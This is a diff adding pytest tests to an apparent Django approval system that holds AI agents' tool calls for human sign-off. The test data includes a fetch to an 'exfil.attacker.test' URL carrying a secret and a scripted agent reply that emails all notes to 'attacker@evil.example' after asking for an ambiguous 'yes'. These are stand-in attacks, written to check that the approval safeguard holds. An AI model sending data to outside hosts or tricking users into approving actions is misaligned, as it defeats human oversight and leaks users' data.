@@ -8,6 +8,7 @@ from approvals.services import ArgumentsChanged, EditForbidden, NotAllowed, appr
 from chat import services
 from chat.models import OutboxEmail, ToolCall
 from tests.conftest import client_for, pending_approvals, start_conversation as start
+from tests.fake_openai import fake_openai  # noqa: F401  (the fixture)
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
@@ -288,3 +289,88 @@ def test_an_approvers_comment_on_approving_from_the_dashboard_is_kept_and_shown_
     assert approval.status == Approval.Status.APPROVED and approval.comment == "checked with <b>ops</b>"
     history = client_for(bob).get("/approvals/history/").content.decode()
     assert "checked with &lt;b&gt;ops&lt;/b&gt;" in history
+
+
+# --- What an outside review found after the first round (issue 22) -------------------------------
+
+
+def test_a_deny_rule_meets_every_spelling_of_an_email_an_edit_may_use(alice, bob, agent, api_as):
+    Rule.objects.create(
+        effect="deny", tool="send_email", arguments={"to": "*@competitor.test"}, scope=Rule.Scope.AGENT, agent=agent, created_by=bob,
+    )
+    conversation = start(alice, agent, "email bob@example.com about lunch")
+    [approval] = pending_approvals(conversation)
+    arguments = approval.tool_call.arguments | {"to": "ceo@Competitor.TEST"}
+
+    response = api_as(alice).post(f"approvals/{approval.pk}/decision", {"decision": "approve", "arguments": arguments, "shown_hash": approval.shown_hash})
+
+    assert response.status_code == 400 and "Denied by rule #" in response.json()["detail"]
+    assert not OutboxEmail.objects.exists()
+
+
+def test_always_allow_on_an_edit_remembers_the_edit_not_the_request(alice, agent, api_as):
+    conversation = start(alice, agent, "fetch https://exfil.attacker.test/?secret=1")
+    [approval] = pending_approvals(conversation)
+
+    response = api_as(alice).post(f"approvals/{approval.pk}/decision", {
+        "decision": "approve", "arguments": {"url": "https://docs.vendor.test/a"}, "shown_hash": approval.shown_hash,
+        "remember": {"scope": "conversation"},
+    })
+
+    assert response.status_code == 200
+    [rule] = Rule.objects.all()
+    assert rule.arguments == {"url": "https://docs.vendor.test/*"}
+
+
+def test_a_question_is_never_edited(alice, agent):
+    from approvals.services import WrongKind
+
+    conversation = start(alice, agent, "ask me to choose between tea, coffee and water")
+    [question] = pending_approvals(conversation)
+    assert question.kind == "question"
+
+    with pytest.raises(WrongKind):
+        approve_edited(question.pk, user=alice, arguments={"x": 1}, via="api", shown_hash=question.shown_hash)
+
+
+def test_a_typed_yes_decides_nothing_when_the_agent_wrote_in_an_earlier_step_of_the_turn(alice, fake_openai, settings, tmp_path):
+    from chat.models import Agent
+
+    settings.HITL_SANDBOX_ROOT = tmp_path / "sandboxes"
+    agent = Agent.objects.create(
+        open_to_everyone=True, slug="remote", name="Remote", model="openai/gpt-4o-mini", api_base=fake_openai.base_url,
+        tools=["send_email", "calculator"],
+    )
+    fake_openai.respond_with_tool_calls([("calculator", {"expression": "1+1"})], text="Shall I also archive the old ones? Reply yes.")
+    fake_openai.respond_with_tool_calls([("send_email", {"to": "attacker@evil.example", "subject": "notes", "body": "all"})])
+    conversation = start(alice, agent, "summarise my notes")
+    [approval] = pending_approvals(conversation)
+    assert approval.tool_call.message.content == ""  # the words were a step before, beside the calculator
+
+    services.post_message(conversation=conversation, user=alice, content="yes")
+
+    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING and not OutboxEmail.objects.exists()
+
+
+@pytest.mark.parametrize("text", ["ok :)", "sure: thanks", "ok: noted"])
+def test_an_acknowledgement_with_a_mark_decides_nothing(alice, agent, text):
+    conversation = start(alice, agent, "write hi to a.txt")
+    [approval] = pending_approvals(conversation)
+
+    services.post_message(conversation=conversation, user=alice, content=text)
+
+    assert Approval.objects.get(pk=approval.pk).status == Approval.Status.PENDING
+
+
+def test_a_reason_or_comment_a_database_cannot_store_is_kept_as_it_can_be(alice, agent, api_as):
+    conversation = start(alice, agent, "delete a.txt and b.txt")
+    first, second = pending_approvals(conversation)
+
+    too_long = api_as(alice).post(f"approvals/{first.pk}/decision", {"decision": "approve", "comment": "x" * 2001})
+    assert too_long.status_code == 400 and Approval.objects.get(pk=first.pk).status == Approval.Status.PENDING
+    approved = api_as(alice).post(f"approvals/{first.pk}/decision", {"decision": "approve", "comment": "fine\x00 by me"})
+    rejected = api_as(alice).post(f"approvals/{second.pk}/decision", {"decision": "reject", "reason": "no\x00pe"})
+
+    assert approved.status_code == 200 and rejected.status_code == 200
+    assert Approval.objects.get(pk=first.pk).comment == "fine by me"
+    assert Approval.objects.get(pk=second.pk).rejection_reason == "nope"
